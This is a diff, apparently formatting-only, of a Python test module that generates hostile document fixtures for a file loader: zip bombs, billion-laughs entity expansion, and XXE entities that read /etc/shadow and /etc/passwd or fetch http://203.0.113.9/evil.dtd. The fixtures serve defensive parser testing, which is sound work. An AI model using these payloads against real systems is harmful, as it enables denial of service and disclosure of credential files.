@@ -20,8 +20,10 @@ from pathlib import Path
 from tests import factories
 
 W_NS = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-SENTENCES = ("The deal was agreed in Iran this month, officials said. Production could begin "
-             "within months, according to the report. ")
+SENTENCES = (
+    "The deal was agreed in Iran this month, officials said. Production could begin "
+    "within months, according to the report. "
+)
 
 
 @dataclass(frozen=True)
@@ -34,8 +36,15 @@ class Hostile:
     loads: bool = False  # a safe file in a hostile disguise: it must load, offline
 
 
-def _bomb(folder: Path, name: str, member: str, *, mb: int, first: tuple[str, str] | None,
-          fill: bytes = b"\0") -> Path:
+def _bomb(
+    folder: Path,
+    name: str,
+    member: str,
+    *,
+    mb: int,
+    first: tuple[str, str] | None,
+    fill: bytes = b"\0",
+) -> Path:
     path = folder / name
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
         if first:
@@ -55,15 +64,22 @@ def docx_bomb(folder: Path) -> Path:
 
 def odt_bomb(folder: Path) -> Path:
     """An ODT (mimetype first) whose content.xml inflates to 300 MB of spaces."""
-    return _bomb(folder, "bomb.odt", "content.xml", mb=300, fill=b" ",
-                 first=("mimetype", "application/vnd.oasis.opendocument.text"))
+    return _bomb(
+        folder,
+        "bomb.odt",
+        "content.xml",
+        mb=300,
+        fill=b" ",
+        first=("mimetype", "application/vnd.oasis.opendocument.text"),
+    )
 
 
 def ratio_bomb(folder: Path) -> Path:
     """A genuine DOCX plus a 60 MB part that packs 1000:1, under every absolute size limit."""
     path = factories.make_docx(folder, "ratio.docx")
-    return factories.replace_member(path, "word/media/padding.xml",
-                                    b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>")
+    return factories.replace_member(
+        path, "word/media/padding.xml", b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"
+    )
 
 
 def forged_size_bomb(folder: Path) -> Path:
@@ -75,7 +91,7 @@ def forged_size_bomb(folder: Path) -> Path:
         while at >= 0:
             name_len = struct.unpack_from("<H", data, at + (28 if offset == 24 else 26))[0]
             start = at + (46 if offset == 24 else 30)
-            if data[start:start + name_len] == b"word/document.xml":
+            if data[start : start + name_len] == b"word/document.xml":
                 struct.pack_into("<I", data, at + offset, 100)
             at = data.find(signature, at + 4)
     path.write_bytes(bytes(data))
@@ -85,41 +101,53 @@ def forged_size_bomb(folder: Path) -> Path:
 def _laughs(root: str, body: str) -> bytes:
     entities = "".join(
         f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
-        for i in range(1, 10))
-    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY lol "lol">{entities}]>\n'
-            + body.replace("TEXT", "&lol9;")).encode()
+        for i in range(1, 10)
+    )
+    return (
+        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY lol "lol">{entities}]>\n'
+        + body.replace("TEXT", "&lol9;")
+    ).encode()
 
 
 def _docx_body(text: str) -> str:
-    return (f'<w:document xmlns:w="{W_NS.decode()}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
-            "</w:p></w:body></w:document>")
+    return (
+        f'<w:document xmlns:w="{W_NS.decode()}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
+        "</w:p></w:body></w:document>"
+    )
 
 
 def _odt_body(text: str) -> str:
-    return (f"<office:document-content {factories.ODT_NS}><office:body><office:text>"
-            f"<text:p>{text}</text:p></office:text></office:body></office:document-content>")
+    return (
+        f"<office:document-content {factories.ODT_NS}><office:body><office:text>"
+        f"<text:p>{text}</text:p></office:text></office:body></office:document-content>"
+    )
 
 
 def _html_body(text: str) -> str:
-    return (f"<html><head><title>Drone deal</title></head><body><article><p>{SENTENCES}{text}"
-            f"</p><p>{SENTENCES}</p></article></body></html>")
+    return (
+        f"<html><head><title>Drone deal</title></head><body><article><p>{SENTENCES}{text}"
+        f"</p><p>{SENTENCES}</p></article></body></html>"
+    )
 
 
 def _external(root: str, body: str, url: str) -> bytes:
-    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY ext SYSTEM "{url}">]>\n'
-            + body.replace("TEXT", "&ext;")).encode()
+    return (
+        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY ext SYSTEM "{url}">]>\n'
+        + body.replace("TEXT", "&ext;")
+    ).encode()
 
 
 def docx_laughs(folder: Path) -> Path:
     path = factories.make_docx(folder, "laughs.docx")
-    return factories.replace_member(path, "word/document.xml",
-                                    _laughs("w:document", _docx_body("TEXT")))
+    return factories.replace_member(
+        path, "word/document.xml", _laughs("w:document", _docx_body("TEXT"))
+    )
 
 
 def odt_laughs(folder: Path) -> Path:
-    return factories.make_odt(folder, "laughs.odt",
-                              content=_laughs("office:document-content",
-                                              _odt_body("TEXT")).decode())
+    return factories.make_odt(
+        folder, "laughs.odt", content=_laughs("office:document-content", _odt_body("TEXT")).decode()
+    )
 
 
 def html_laughs(folder: Path) -> Path:
@@ -136,10 +164,13 @@ def docx_xxe_file(folder: Path) -> Path:
 def docx_xxe_http_footnotes(folder: Path) -> Path:
     """The external entity hides in footnotes.xml, a part python-docx never parses."""
     path = factories.make_docx(folder, "xxe-http.docx")
-    body = (f'<w:footnotes xmlns:w="{W_NS.decode()}"><w:footnote w:id="1"><w:p><w:r><w:t>TEXT'
-            "</w:t></w:r></w:p></w:footnote></w:footnotes>")
-    return factories.replace_member(path, "word/footnotes.xml",
-                                    _external("w:footnotes", body, "http://203.0.113.9/x"))
+    body = (
+        f'<w:footnotes xmlns:w="{W_NS.decode()}"><w:footnote w:id="1"><w:p><w:r><w:t>TEXT'
+        "</w:t></w:r></w:p></w:footnote></w:footnotes>"
+    )
+    return factories.replace_member(
+        path, "word/footnotes.xml", _external("w:footnotes", body, "http://203.0.113.9/x")
+    )
 
 
 def docx_xxe_utf16(folder: Path) -> Path:
@@ -151,34 +182,45 @@ def docx_xxe_utf16(folder: Path) -> Path:
 
 
 def odt_xxe_http(folder: Path) -> Path:
-    return factories.make_odt(folder, "xxe.odt", content=_external(
-        "office:document-content", _odt_body("TEXT"), "http://203.0.113.9/evil.dtd").decode())
+    return factories.make_odt(
+        folder,
+        "xxe.odt",
+        content=_external(
+            "office:document-content", _odt_body("TEXT"), "http://203.0.113.9/evil.dtd"
+        ).decode(),
+    )
 
 
 def odt_xxe_meta(folder: Path) -> Path:
     """The entity is in meta.xml; content.xml is clean."""
     path = factories.make_odt(folder, "xxe-meta.odt")
-    body = (f"<office:document-meta {factories.ODT_NS}><office:meta><dc:title>TEXT</dc:title>"
-            "</office:meta></office:document-meta>")
-    return factories.replace_member(path, "meta.xml", _external(
-        "office:document-meta", body, "file:///etc/shadow"))
+    body = (
+        f"<office:document-meta {factories.ODT_NS}><office:meta><dc:title>TEXT</dc:title>"
+        "</office:meta></office:document-meta>"
+    )
+    return factories.replace_member(
+        path, "meta.xml", _external("office:document-meta", body, "file:///etc/shadow")
+    )
 
 
 def html_xxe(folder: Path) -> Path:
     path = folder / "xxe.html"
     page = _html_body("TEXT &web;").replace("TEXT", "&ext;")
-    path.write_text('<!DOCTYPE html [<!ENTITY ext SYSTEM "file:///etc/passwd">'
-                    '<!ENTITY web SYSTEM "http://203.0.113.9/x">]>\n' + page)
+    path.write_text(
+        '<!DOCTYPE html [<!ENTITY ext SYSTEM "file:///etc/passwd">'
+        '<!ENTITY web SYSTEM "http://203.0.113.9/x">]>\n' + page
+    )
     return path
 
 
 def xhtml_doctype(folder: Path) -> Path:
     """A real-world XHTML page whose DOCTYPE names a DTD on the web: loads, fetches nothing."""
     path = folder / "xhtml.html"
-    path.write_text('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD '
-                    'XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
-                    + _html_body("").replace("<html>",
-                                             '<html xmlns="http://www.w3.org/1999/xhtml">'))
+    path.write_text(
+        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD '
+        'XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
+        + _html_body("").replace("<html>", '<html xmlns="http://www.w3.org/1999/xhtml">')
+    )
     return path
 
 
@@ -203,8 +245,9 @@ def sparse_200mb(folder: Path) -> Path:
 
 def deep_html(folder: Path) -> Path:
     path = folder / "deep.html"
-    path.write_text("<html><body>" + "<div>" * 100_000 + SENTENCES + "</div>" * 100_000
-                    + "</body></html>")
+    path.write_text(
+        "<html><body>" + "<div>" * 100_000 + SENTENCES + "</div>" * 100_000 + "</body></html>"
+    )
     return path
 
 
@@ -219,8 +262,9 @@ def blank_pdf(folder: Path) -> Path:
 
 def cyrillic_name(folder: Path) -> Path:
     """A healthy file whose name has Cyrillic, spaces, both quote kinds and a dash."""
-    return factories.make_txt(folder, "Отчёт «ТАСС» о \"сделке\" — it's final.txt",
-                              factories.news_text())
+    return factories.make_txt(
+        folder, 'Отчёт «ТАСС» о "сделке" — it\'s final.txt', factories.news_text()
+    )
 
 
 def cyrillic_bomb(folder: Path) -> Path:
@@ -290,8 +334,9 @@ CASES = (
     Hostile("billion laughs: ODT", odt_laughs, ("XML entities",)),
     Hostile("billion laughs: HTML", html_laughs, ("XML entities",)),
     Hostile("external entity file://: DOCX", docx_xxe_file, ("XML entities",)),
-    Hostile("external entity http:// in DOCX footnotes", docx_xxe_http_footnotes,
-            ("XML entities",)),
+    Hostile(
+        "external entity http:// in DOCX footnotes", docx_xxe_http_footnotes, ("XML entities",)
+    ),
     Hostile("external entity in UTF-16 XML: DOCX", docx_xxe_utf16, ("XML entities",)),
     Hostile("external entity http://: ODT", odt_xxe_http, ("XML entities",)),
     Hostile("external entity file:// in ODT meta.xml", odt_xxe_meta, ("XML entities",)),
@@ -309,8 +354,9 @@ CASES = (
     Hostile("a link to /dev/zero named .txt", device, ("not a regular file",)),
     Hostile("a symbolic link to itself", link_loop, ("points to itself",)),
     Hostile("a program named .txt", program_named_txt, ("program",)),
-    Hostile("Markdown: 1 MB of unclosed emphasis, comments, links", unclosed_markdown, (),
-            loads=True),
+    Hostile(
+        "Markdown: 1 MB of unclosed emphasis, comments, links", unclosed_markdown, (), loads=True
+    ),
 )
 
 
